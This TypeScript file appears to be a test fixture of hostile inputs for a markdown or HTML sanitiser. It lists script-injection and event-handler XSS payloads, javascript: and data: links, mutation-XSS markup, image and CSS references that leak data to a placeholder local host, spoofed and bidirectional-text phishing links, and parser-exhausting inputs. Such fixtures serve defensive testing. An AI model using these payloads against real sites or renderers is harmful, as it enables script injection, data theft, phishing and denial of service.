/** What a hostile model, tool or server writes. None of it may run, load, send or hide anything. */
export interface Payload {
  what: string
  text: string
}

/** Sets this global where it runs. */
export const trap = 'trapSprung'
const run = `globalThis.${trap}=1`
/** A host that no page may ask. On this machine, so that nothing leaves it even if one does. */
export const elsewhere = 'http://127.0.0.1:9'

function each(what: string, texts: readonly string[]): Payload[] {
  return texts.map((text, index) => ({ what: `${what}, ${index + 1}`, text }))
}

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}//`,
  `<script type="module">${run}</script>`,
  `\`\`\`html\n</code></pre><script>${run}</script>\n\`\`\``,
  `\`</code><script>${run}</script>\``,
  `&lt;script&gt;${run}&lt;/script&gt;`,
]

const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"/>`,
  `<svg onload=${run}>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<div style="animation-name:x" onanimationstart=${run}>x</div>`,
  `<a onmouseover=${run} href=#>here</a>`,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `# <img src=x onerror=${run}>`,
]

const scriptLinks = [
  `[here](javascript:${run})`,
  `[here](JaVaScRiPt:${run})`,
  `[here](java\tscript:${run})`,
  `[here](<java\nscript:${run}>)`,
  `[here](\u0001javascript:${run})`,
  `[here](&#106;avascript:${run})`,
  `[here](javascript&colon;${run})`,
  `[here](vbscript:${run})`,
  `[here](data:text/html,<script>${run}</script>)`,
  `[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[here](blob:${elsewhere}/x)`,
  `[here](file:///etc/passwd)`,
  `<javascript:${run}>`,
  `[here][ref]\n\n[ref]: javascript:${run}`,
  `![x](javascript:${run})`,
  `[here](http:javascript:${run} "title")`,
]

const markup = [
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}/">`,
  `<form action="${elsewhere}"><button>Continue</button></form>`,
  `<template><img src=x onerror=${run}></template>`,
]

const leaks = [
  `![x](${elsewhere}/leak?secret=1)`,
  `![x][pic]\n\n[pic]: ${elsewhere}/leak.png`,
  `<img src="${elsewhere}/leak">`,
  `<link rel=stylesheet href="${elsewhere}/x.css">`,
  `<style>body{background:url(${elsewhere}/leak)}</style>`,
  `<div style="background:url(${elsewhere}/leak)">x</div>`,
  `<div style="position:fixed;inset:0;background:red">Sign in again</div>`,
  `<audio src="${elsewhere}/leak" autoplay></audio>`,
  `[![x](${elsewhere}/leak)](${elsewhere})`,
  `![x](//127.0.0.1:9/leak)`,
  `<a ping="${elsewhere}/leak" href="#">x</a>`,
]

const lies = [
  `[https://bank.example](${elsewhere}/phish)`,
  `[bank.example](https://user:bank.example@127.0.0.1:9/)`,
  `https://bank.example@127.0.0.1:9/`,
  `[xn](https://xn--80ak6aa92e.com/)`,
  `\u202Egpj.exe\u202C and \u2066more\u2069`,
  `[\u202Ekcart\u202C](https://example.com/\u202Emoc.live)`,
  `invisible \u200B\u200D\u2060\uFEFF marks, and \u0000 too`,
  `${'\u0300\u0301\u0302\u0303'.repeat(500)}zalgo`,
]

/** Input that takes parsers long, or overflows their stacks. */
const heavy = [
  '>'.repeat(1_000_000),
  `${'> '.repeat(20_000)}deep`,
  `${'- '.repeat(20_000)}deep`,
  '['.repeat(50_000),
  `${'['.repeat(5_000)}x${']'.repeat(5_000)}(y)`,
  '![['.repeat(20_000),
  '*a'.repeat(50_000),
  '**a _b '.repeat(20_000),
  '`'.repeat(50_000),
  '~'.repeat(50_000),
  '<a '.repeat(30_000),
  '<!--'.repeat(30_000),
  '&#'.repeat(50_000),
  `|${'a|'.repeat(20_000)}\n|${'-|'.repeat(20_000)}\n|${'b|'.repeat(20_000)}`,
  'http://'.repeat(20_000),
  'a@b.'.repeat(20_000),
  '\\'.repeat(100_000),
  '1. '.repeat(10_000),
  `${' '.repeat(100_000)}x`,
  'x'.repeat(1_000_000),
  '$$'.repeat(30_000),
  '# '.repeat(30_000),
  '\n'.repeat(100_000),
]

/** Texts that are short, and those that take long. */
export const payloads: Payload[] = [
  ...each('a script', scripts),
  ...each('an event handler', handlers),
  ...each('a link that runs a script', scriptLinks),
  ...each('markup that changes when it is parsed again', markup),
  ...each('a reference that carries data out', leaks),
  ...each('a text that lies', lies),
]
export const heavyPayloads: Payload[] = each('a text that is heavy', heavy)
